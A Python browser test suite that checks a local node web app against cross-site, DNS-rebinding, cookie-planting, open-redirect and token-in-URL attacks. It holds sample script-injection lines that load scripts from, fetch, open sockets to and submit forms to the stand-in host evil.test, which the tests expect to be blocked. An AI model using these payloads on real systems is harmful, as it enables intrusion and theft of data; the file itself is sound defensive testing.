"""Pages of others, tried against a node whose owner is logged in in the same browser."""

from __future__ import annotations

import asyncio
import re
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote, urlsplit

import aiohttp
import pytest
import pytest_asyncio
from aiohttp import web
from playwright.async_api import Browser, BrowserContext, Frame, Page

from node.api import server
from node.api.guards import put_headers
from tests.e2e.browser.attacks import (
    LINKS,
    SECRET,
    WAYS_ON,
    Attack,
    Place,
    attacks,
    whole_script,
)
from tests.e2e.browser.chromium import FOREIGN, REBOUND
from tests.e2e.browser.inspection import hostile_faults
from tests.e2e.browser.site import Sheet, Site
from tests.e2e.browser.tab import Address, Tab
from tests.e2e.browser.town import Quarter, address_of, rental_cast
from tests.e2e.browser.watcher import Kind, Watcher, origin_of
from tests.integration.fair import House

ANSWER_S = 20.0
BARE = "<!doctype html><title>attack</title><body><p>Nothing to see.</p></body>"
BOXED = '<!doctype html><iframe sandbox="allow-scripts allow-forms allow-popups" src="/bare">'
CLEAR = "() => { document.head.replaceChildren(); document.body.replaceChildren(); }"
HOSTS = {Place.FOREIGN: FOREIGN, Place.SISTER: "127.0.0.1", Place.COUSIN: "localhost"}


@dataclass(frozen=True)
class Answer:
    """One thing the node said."""

    status: int
    host: str
    path: str


@dataclass
class Victim:
    """A logged-in browser, the node behind it, and the attacker's site."""

    house: House
    address: Address
    context: BrowserContext
    elsewhere: BrowserContext
    """No policy of a page holds here: it has the page an attacker served under a name before it
    was pointed at the node, whose refusal stands in its place."""
    evil: Site
    watcher: Watcher
    answers: list[Answer] = field(default_factory=list)
    """Everything the node said, seen where it is said: a browser does not tell all it asks."""
    pages: dict[Place, tuple[Page, Frame]] = field(default_factory=dict)

    @property
    def port(self) -> int:
        return urlsplit(self.address.url).port or 0

    @property
    def rebound(self) -> str:
        return f"http://{REBOUND}:{self.port}"

    def told(self, place: Place) -> list[Answer]:
        """Give what the node answered there; the looks of its refusals apart.

        What a page under a name of the attacker's asked for may be answered after it is closed.
        """
        is_rebound = place is Place.REBOUND
        own = [each for each in self.answers if each.host.startswith(REBOUND) is is_rebound]
        return [each for each in own if not each.path.startswith("/static/")]

    async def until_told(self, place: Place) -> None:
        """Wait until the node has said something; what the browser said shows why it has not."""
        try:
            async with asyncio.timeout(ANSWER_S):
                while not self.told(place):
                    await asyncio.sleep(0.02)
        except TimeoutError:
            said = "\n".join(self.watcher.of(Kind.CONSOLE))
            raise AssertionError(f"the node was not asked; in the browser:\n{said}") from None

    async def state(self) -> list[Any]:
        """Give what an attack could change: requests, deals, who may ask, keys, peers."""
        access = self.house.up.access
        casts = await self.house.handle.casts()
        deals = await self.house.handle.deals()
        keys = await self.house.up.custody.document()
        who = [each["handle"] for each in (await access.tokens(None))["tokens"]]
        states = [each["state"] for each in casts["casts"]]
        kept = self.house.up.network.kept
        return [states, deals, who, keys["locked"], keys["passphrase"], kept]

    async def stand(self, place: Place) -> tuple[Page, Frame]:
        """Give the attacker's page and the frame its script runs in; used until it is left."""
        if place in self.pages:
            page, frame = self.pages[place]
            await frame.evaluate(CLEAR)
        else:
            page, frame = self.pages[place] = await self._opened(place)
        return page, frame

    async def _opened(self, place: Place) -> tuple[Page, Frame]:
        if place is Place.REBOUND:
            page = await self.elsewhere.new_page()
            await page.goto(f"{self.rebound}/")
            return page, page.main_frame
        page = await self.context.new_page()
        if place in HOSTS:
            await page.goto(self.evil.url("/bare", HOSTS[place]))
            return page, page.main_frame
        await page.goto(self.evil.url(f"/{place.name.lower()}", FOREIGN))
        frame = page.frames[1]
        await frame.wait_for_load_state()
        return page, frame


async def _on(request: web.Request) -> web.StreamResponse:
    """Redirect, the method kept."""
    return web.Response(status=307, headers={"Location": request.query["to"]})


@pytest_asyncio.fixture(loop_scope="session", scope="module")
async def victim(browser: Browser, quarter: Quarter) -> AsyncIterator[Victim]:
    """One for all attacks: what one of them spoilt would show in the next."""
    answers: list[Answer] = []

    async def heard(request: web.BaseRequest, response: web.StreamResponse) -> None:
        answers.append(Answer(response.status, request.host, request.path))
        await put_headers(request, response)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(server, "put_headers", heard)
        house = await quarter.move_in("buyer_ana")
    await rental_cast(house, title=SECRET)
    evil = Site(
        {
            "/bare": Sheet(BARE),
            "/opaque": Sheet(BOXED),
            "/data": Sheet(f'<!doctype html><iframe src="data:text/html,{BARE}"></iframe>'),
        }
    )
    evil.answers["/on"] = _on
    await evil.start()
    context = await browser.new_context()
    elsewhere = await browser.new_context(bypass_csp=True)
    found = Victim(house, address_of(house), context, elsewhere, evil, Watcher(), answers)
    for each in (context, elsewhere):
        each.set_default_timeout(5_000)
        await found.watcher.watch(each)
    tab = Tab(await context.new_page(), context, found.address, found.watcher, house.home)
    await tab.enter()

    yield found
    await elsewhere.close()
    await context.close()
    await evil.stop()
    await quarter.move_out(house)


def test_there_are_more_than_sixty():
    assert len({attack.title for attack in attacks()}) == len(attacks()) >= 60


@pytest.mark.parametrize("attack", attacks(), ids=lambda attack: attack.title)
async def test_an_attack_learns_nothing_and_changes_nothing(attack: Attack, victim: Victim):
    before = await victim.state()
    page, frame = await victim.stand(attack.place)
    victim.answers.clear()
    victim.watcher.sights.clear()
    at = {"node": victim.address.url, "me": victim.evil.url("", FOREIGN), "rebound": victim.rebound}
    learnt = str(await frame.evaluate(whole_script(attack), at))
    assert re.match(rf"(?:{attack.learns})", learnt), learnt
    assert SECRET not in learnt
    if attack.answers:
        await victim.until_told(attack.place)
    told = victim.told(attack.place)
    assert {each.status for each in told} <= attack.answers, told
    kept = {each for each, _ in victim.pages.values()} - {page}
    for one in victim.context.pages[1:]:
        if one not in kept and (attack.leaves or one is not page):
            await one.close()
    if attack.leaves:
        del victim.pages[attack.place]
    assert await victim.state() == before
    assert not victim.watcher.of(Kind.DIALOG)
    assert not victim.watcher.of(Kind.FAILURE)


# --- what only the owner may do, once, here -------------------------------------------------------


async def test_a_code_lets_in_once(victim: Victim, open_tab, watcher: Watcher):
    code = (await victim.address.login())["code"]
    first, second = await open_tab(victim.address), await open_tab(victim.address)
    for tab in (first, second):
        await tab.go("/login")
        await tab.page.fill("input[name=code]", code)
        async with tab.page.expect_response("**/login") as answer:
            await tab.page.press("input[name=code]", "Enter")
        assert (await answer.value).status == (303 if tab is first else 401)
    watcher.expects(Kind.CONSOLE, "401")
    await second.page.wait_for_load_state()
    assert "intentcast open" in await second.seen_text()
    assert not [each for each in await second.context.cookies() if "intentcast" in each["name"]]


async def test_a_link_lets_in_and_leaves_no_code_in_the_address(victim: Victim, open_tab):
    tab = await open_tab(victim.address)
    await tab.follow_link()
    assert "#" not in tab.page.url
    code_like = re.compile(r"[A-Z0-9]{8}")
    assert not code_like.search(await tab.page.evaluate("location.hash"))
    assert all(not code_like.search(each) for each in tab.watcher.requests if "/login" in each)


async def test_no_script_reads_the_cookie_and_it_goes_to_no_other_site(victim: Victim):
    [cookie] = await victim.context.cookies(victim.address.url)
    assert cookie["httpOnly"]
    assert (cookie["sameSite"], cookie["path"]) == ("Strict", "/")
    assert str(victim.port) in cookie["name"]
    page = victim.context.pages[0]
    await page.goto(victim.address.url)
    assert await page.evaluate("document.cookie") == ""
    for host in (FOREIGN, "localhost"):
        victim.evil.asked.clear()
        await page.goto(victim.evil.url("/bare", host))
        assert all("intentcast" not in each.headers.get("Cookie", "") for each in victim.evil.asked)


@pytest.mark.xfail(reason="cookies know no ports: RFC 6265, 8.5; what listens beside us is told")
async def test_the_cookie_goes_to_no_other_port(victim: Victim):
    page = await victim.context.new_page()
    victim.evil.asked.clear()
    await page.goto(victim.evil.url("/bare"))
    await page.close()
    assert all("intentcast" not in each.headers.get("Cookie", "") for each in victim.evil.asked)


@pytest.mark.parametrize("path", ["/", "/v1"])
async def test_a_cookie_planted_from_another_port_opens_nothing(
    path: str, victim: Victim, browser: Browser
):
    """Cookies know no ports: one that somebody plants must not take the place of the owner's."""
    context = await browser.new_context()
    name = f"intentcast_{victim.port}"
    victim.evil.sheets["/plant"] = Sheet(BARE, {"Set-Cookie": f"{name}=guess; Path={path}"})
    page = await context.new_page()
    await page.goto(victim.evil.url("/plant"))
    found = await page.goto(f"{victim.address.url}/v1/casts")
    assert found is not None
    assert found.status in {401, 403}
    await context.close()


@pytest.mark.parametrize(
    "query", ["?token={}", "?access_token={}", "?key={}", "?authorization=Bearer%20{}"]
)
async def test_no_token_in_an_address_opens_anything(query: str, victim: Victim):
    async with (
        aiohttp.ClientSession() as session,
        session.get(
            f"{victim.address.url}/v1/status{query.format(victim.address.token)}"
        ) as answer,
    ):
        assert answer.status == 401


async def test_a_login_leads_to_no_other_site(victim: Victim, open_tab, watcher: Watcher):
    # It may lead to a path of the node where nothing is.
    watcher.tolerates(Kind.CONSOLE, "status of 404")
    tab = await open_tab(victim.address)
    for way in WAYS_ON:
        # The page before this one listens for news, which it may not without its cookie.
        await tab.page.goto("about:blank")
        await tab.context.clear_cookies()
        await tab.go(f"/login?next={quote(way, safe='')}")
        code = (await victim.address.login())["code"]
        await tab.page.fill("input[name=code]", code)
        async with tab.page.expect_response("**/login"):
            await tab.page.press("input[name=code]", "Enter")
        await tab.page.wait_for_load_state()
        assert origin_of(tab.page.url) == victim.address.url, way
        assert not watcher.of(Kind.FOREIGN), way


async def test_no_link_makes_a_page_of_somebody_elses_words(victim: Victim, open_tab, watcher):
    tab = await open_tab(victim.address)
    await tab.enter()
    watcher.expects(Kind.CONSOLE, "status of 4")
    faults = []
    for path in LINKS:
        await tab.page.goto("about:blank")
        found = await tab.page.goto(f"{victim.address.url}{path}")
        assert found is not None
        assert found.status < 500, path
        if "text/html" in found.headers.get("content-type", ""):
            faults += await hostile_faults(tab)
    assert not faults, "\n".join(faults)


CONTAINED = {
    "markup": "document.body.innerHTML = '<img src=x onerror=alert(1)>'",
    "more markup": "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
    "document": "document.write('<b>x</b>')",
    "code": "globalThis.eval('1')",
    "function": "new Function('1')()",
    "script": "document.body.append(Object.assign(document.createElement('script'), {text: '1'}))",
    "foreign script": (
        "document.body.append(Object.assign(document.createElement('script'),"
        " {src: 'http://evil.test/x.js'}))"
    ),
    "worker": "new Worker(URL.createObjectURL(new Blob(['1'])))",
    "handler": "document.body.setAttribute('onclick', 'alert(1)'); document.body.click()",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: '/'}))",
    "base": (
        "document.head.append(Object.assign(document.createElement('base'),"
        " {href: 'http://evil.test/'}))"
    ),
    "picture": "new Image().src = 'http://evil.test/x'",
    "request": "fetch('http://evil.test/x').catch(() => 0)",
    "socket": "new WebSocket('ws://evil.test/x')",
    "form": (
        "const form = document.createElement('form'); form.action = 'http://evil.test/';"
        " document.body.append(form); form.submit()"
    ),
    "style": "document.body.setAttribute('style', 'background: url(http://evil.test/x)')",
}
"""What a text that became a script would do next, each in the node's own page."""
LATER = """() => new Promise((done) => setTimeout(() => {
  try { SCRIPT } catch { /* refused */ }
  setTimeout(done, 50);
}, 0))"""


async def test_a_script_that_got_in_would_get_no_further(victim: Victim, open_tab):
    tab = await open_tab(victim.address)
    for name, script in CONTAINED.items():
        tab.watcher.sights.clear()
        await tab.go("/login")
        # Later, from the page's own queue: what the driver calls itself stands above the policy.
        await tab.page.evaluate(LATER.replace("SCRIPT", script))
        assert tab.watcher.of(Kind.POLICY), (name, tab.watcher.sights)
        assert not tab.watcher.of(Kind.DIALOG), name
        assert origin_of(tab.page.url) == victim.address.url, name
    tab.watcher.retire()


# --- the line to add for an honest case -----------------------------------------------------------


async def test_an_honest_name_is_let_in_by_the_line_that_the_refusal_says(victim: Victim, town):
    async with aiohttp.ClientSession() as session:
        async with session.get(victim.address.url, headers={"Host": "node.lan:1"}) as answer:
            assert answer.status == 421
            text = await answer.text()
            assert 'api_names = ["node.lan"]' in text.replace("&#34;", '"').replace('\\"', '"')
        house = await town.move_in("buyer_bea", api_names=["node.lan"])
        address = address_of(house)
        async with session.get(f"{address.url}/livez", headers={"Host": "node.lan:1"}) as answer:
            assert answer.status == 200


async def test_an_honest_program_is_told_what_to_send(victim: Victim):
    url = victim.address.url
    token = {"Authorization": f"Bearer {victim.address.token}"}
    async with aiohttp.ClientSession() as session:
        async with session.get(f"{url}/v1/casts") as answer:
            assert "intentcast token new" in (await answer.json())["fix"]
        headers = token | {"Origin": "http://evil.test"}
        async with session.get(f"{url}/v1/casts", headers=headers) as answer:
            assert (answer.status, (await answer.json())["code"]) == (403, "E-ORIGIN")
        live = f"{url}/v1/events/socket"
        for told in (headers, {}, {"Origin": "null"}, {"Cookie": "intentcast_1=x"}):
            with pytest.raises(aiohttp.WSServerHandshakeError) as refused:
                await session.ws_connect(live, headers=told)
            assert refused.value.status in {401, 403}
        for told in (token, token | {"Origin": url}):
            async with session.ws_connect(live, headers=told) as socket:
                await socket.send_json({"after": 0})
                assert (await socket.receive_json())["n"] >= 1
